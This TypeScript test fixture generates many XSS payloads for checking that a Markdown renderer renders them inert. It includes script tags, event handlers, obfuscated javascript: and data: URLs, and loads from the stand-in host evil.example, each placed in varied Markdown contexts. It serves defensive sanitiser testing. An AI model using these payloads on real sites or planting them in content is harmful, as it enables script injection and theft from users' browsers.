/** Where what gets in would show: a request to this host, or a call of `alert`. */
export const EVIL = 'evil.example';

const call = 'alert(1)';
const address = `https://${EVIL}/x`;

/** Markup that does something by itself, or lets a reader do it. */
const tags = [
  `<script>${call}</script>`,
  `<script src=${address}></script>`,
  `<img src=x onerror=${call}>`,
  `<img src="${address}.png">`,
  `<image src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text y=9>a</text></a></svg>`,
  `<svg><animate onbegin=${call} attributeName=x></svg>`,
  `<svg><use href="${address}#a"></svg>`,
  `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src=${address}></iframe>`,
  `<object data=${address}></object>`,
  `<embed src=${address}>`,
  `<link rel=stylesheet href=${address}.css>`,
  `<link rel=prefetch href=${address}>`,
  `<style>@import "${address}.css";</style>`,
  `<style>*{background:url(${address})}</style>`,
  `<base href=${address}>`,
  `<meta http-equiv=refresh content="0;url=${address}">`,
  `<form action=${address}><button autofocus onfocus=${call}>a</button></form>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}></select>`,
  `<textarea autofocus onfocus=${call}></textarea>`,
  `<details open ontoggle=${call}>a</details>`,
  `<video src=${address} onerror=${call} autoplay></video>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}></audio>`,
  `<marquee onstart=${call}>a</marquee>`,
  `<body onload=${call}>`,
  `<a href="javascript:${call}">a</a>`,
  `<a href=${address} ping=${address}>a</a>`,
  `<div style="background:url(${address})" onmouseover=${call}>a</div>`,
  `<p style="animation-name:x" onanimationstart=${call}>a</p>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<template><img src=x onerror=${call}></template>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<![CDATA[><img src=x onerror=${call}>]]>`,
];

const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `&#106;avascript:${call}`,
  `javascript&colon;${call}`,
  `%6aavascript:${call}`,
  `\u0001javascript:${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:image/svg+xml,<svg onload=${call}>`,
  `blob:${address}`,
  address,
  `//${EVIL}/x`,
  `/\\${EVIL}/x`,
  `\\\\${EVIL}\\x`,
  `https:${EVIL}/x`,
  `/.//${EVIL}/x`,
  `http://localhost@${EVIL}/x`,
  `ftp://${EVIL}/x`,
  `view-source:${address}`,
];

/** Places of a Markdown text that a payload may stand in. */
const places: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `So ${payload} it is [1].`,
  (payload) => `# ${payload}`,
  (payload) => `- ${payload}\n- [x] ${payload}`,
  (payload) => `> ${payload}`,
  (payload) => `> [!NOTE] ${payload}\n> ${payload}`,
  (payload) => `:::tip ${payload}\n${payload}\n:::`,
  (payload) => `| ${payload} | a |\n| --- | --- |\n| ${payload} | b |`,
  (payload) => `**${payload}** _${payload}_ ~~${payload}~~`,
  (payload) => `\`${payload}\``,
  (payload) => `\`\`\`html\n${payload}\n\`\`\``,
  (payload) => `\`\`\`${payload}\na\n\`\`\``,
  (payload) => `[${payload}](/docs/quick-start)`,
  (payload) => `![${payload}](/img/logo.svg)`,
  (payload) => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (payload) => payload.replaceAll('<', '<\n'),
  (payload) => payload.toUpperCase().replaceAll('ALERT', 'alert'),
  (payload) => `<div>\n\n${payload}\n\n</div>`,
];

const links: ((to: string) => string)[] = [
  (to) => `[a](${to})`,
  (to) => `[a](<${to}>)`,
  (to) => `[a](${to} "title")`,
  (to) => `[a]( ${to} 'x" onclick=${call} y="')`,
  (to) => `![a](${to})`,
  (to) => `![a](<${to}> "t")`,
  (to) => `[![a](${to})](${to})`,
  (to) => `<${to}>`,
  (to) => to,
  (to) => `[a][r]\n\n[r]: ${to}`,
  (to) => `[1]: ${to}\n\nSo [1].`,
  (to) => `**[a](${to})** [1]`,
  (to) => `- [a](${to})`,
  (to) => `| [a](${to}) |\n| --- |\n| ![a](${to}) |`,
  (to) => `[a\n](${to}`,
  (to) => `[docs.example/safe](${to})`,
];

/** Every payload in every place: Markdown texts that must do nothing. */
export const payloads: string[] = [
  ...tags.flatMap((payload) => places.map((place) => place(payload))),
  ...addresses.flatMap((to) => links.map((link) => link(to))),
  // Once more within each other, as a renderer that mends half markup would make something of them.
  ...tags.flatMap((payload, index) =>
    addresses.flatMap((to) => {
      const place = places[(index + to.length) % places.length];
      return place ? [place(`[${payload}](${to})`), `${payload.slice(0, -1)}\n\n[a](${to})${payload}`] : [];
    }),
  ),
];
